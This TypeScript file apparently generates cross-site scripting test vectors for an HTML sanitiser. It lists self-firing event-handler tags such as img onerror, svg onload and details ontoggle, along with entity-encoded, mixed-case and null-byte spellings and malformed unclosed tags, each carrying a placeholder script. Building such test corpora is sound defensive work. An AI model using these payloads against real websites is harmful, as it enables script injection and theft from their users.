import { asDecimal, asHex, CODE, crossed, family, inMixedCase } from './xss-vector.ts';

/** Elements that fire an event without anybody touching them, as tag and attributes before it. */
const SELF_STARTERS: readonly (readonly [tag: string, attributes: string, event: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['video', 'autoplay src=x', 'onloadstart'],
  ['input', 'type=image src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['keygen', 'autofocus', 'onfocus'],
  ['p', 'tabindex=0 autofocus', 'onfocusin'],
  ['xss', 'contenteditable autofocus', 'onfocus'],
  ['a', 'href=# autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['iframe', '', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['frameset', '', 'onload'],
  ['dialog', 'open tabindex=0 autofocus', 'onfocus'],
  ['p', 'style=animation-name:x', 'onanimationstart'],
  ['p', 'style=transition:1s', 'ontransitionend'],
  ['video', 'poster=x', 'onloadeddata'],
  ['track', 'src=x', 'onerror'],
  ['source', 'src=x', 'onerror'],
];

/** Ways to write one attribute that a careless reader takes for something else. */
const SPELLINGS: readonly ((event: string) => string)[] = [
  (event) => ` ${event}=${CODE}`,
  (event) => ` ${event}="${CODE}"`,
  (event) => ` ${event}='${CODE}'`,
  (event) => ` ${event}=\`${CODE}\``,
  (event) => `/${event}=${CODE}/`,
  (event) => `\n${event}\n=\n${CODE}\n`,
  (event) => `\t${event}\t=${CODE}`,
  (event) => `\f${event}=${CODE}`,
  (event) => `\u0000 ${event}=${CODE}`,
  (event) => ` ${inMixedCase(event)}=${CODE}`,
  (event) => ` ${event}=${asDecimal(CODE)}`,
  (event) => ` ${event}=${asHex(CODE)}`,
  (event) => ` ${event}=${asDecimal(CODE, { width: 7, end: '' })} `,
  (event) => ` title=">" ${event}=${CODE}`,
  (event) => ` ${event}=x ${event}=${CODE}`,
  (event) => ` ="'\`${event}=1 ${event}=${CODE}`,
];

/** Handlers that need a person, or a happening of the page. */
const HANDLERS =
  'abort afterprint animationend auxclick beforecopy beforeinput beforematch beforeunload blur change click contextmenu copy cut dblclick drag dragenter drop gotpointercapture hashchange input invalid keydown keypress keyup message mousedown mouseenter mousemove mouseout mouseover mouseup mousewheel paste pointerdown pointerover pointerrawupdate popstate reset resize scroll scrollend search selectionchange selectstart storage submit touchstart touchend unload visibilitychange webkitanimationstart wheel'.split(
    ' ',
  );

export const eventHandlers = [
  ...family(
    'handlers that start themselves',
    SELF_STARTERS.map(([tag, attributes, event]) => `<${tag} ${attributes} ${event}=${CODE}>`),
  ),
  ...family(
    'spellings of a handler',
    crossed(
      SELF_STARTERS.filter(([tag]) => ['img', 'svg', 'details'].includes(tag)),
      SPELLINGS,
      ([tag, attributes, event], spelling) => `<${tag} ${attributes}${spelling(event)}>`,
    ),
  ),
  ...family(
    'handlers on what we keep',
    HANDLERS.map((event, at) => {
      const tag = ['p', 'strong', 'em', 'ul', 'li', 'a href=https://a.example'][at % 6] ?? 'p';
      return `<${tag} on${event}=${CODE}>over here</${tag.split(' ')[0]}>`;
    }),
  ),
  ...family('handlers without an end', [
    `<img src=x onerror=${CODE}//`,
    `<img src=x onerror=${CODE} `,
    `<svg onload=${CODE}`,
    `<svg/onload=${CODE}//`,
    `<p><svg onload="${CODE}`,
    `<a href="https://a.example" onclick="${CODE}`,
    `<details open ontoggle=${CODE}<p>`,
    `<<img src=x onerror=${CODE}>`,
    `<<<svg onload=${CODE}>`,
    `< img src=x onerror=${CODE}>`,
    `<img<img src=x onerror=${CODE}>`,
    `<p <img src=x onerror=${CODE}>`,
    `<im\u0000g src=x onerror=${CODE}>`,
    `<img\u000bsrc=x onerror=${CODE}>`,
    `<img """><img src=x onerror=${CODE}>">`,
    `<img src=x:x onerror\u2028=${CODE}>`,
    `<a\u00a0onclick=${CODE} href=https://a.example>x</a>`,
  ]),
];
